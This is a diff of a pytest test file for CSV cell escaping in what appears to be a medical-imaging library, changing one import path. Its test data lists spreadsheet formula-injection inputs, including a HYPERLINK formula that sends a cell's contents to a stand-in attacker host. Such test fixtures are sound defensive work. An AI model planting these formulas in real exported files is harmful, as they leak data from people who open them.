@@ -6,7 +6,7 @@ import csv
 
 import pytest
 
-from EfficientMedSAM2Lib.imaging.files import csv_cell, from_csv_cell
+from EfficientMedSAM2Lib.imaging.formats.files import csv_cell, from_csv_cell
 
 FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", " =1", "\t=1", "\r=1", "＝1"]
 PLAIN = ["liver", "a-b", "a=b", "'quoted", "", "Segment_1", 3, -2.5, None]
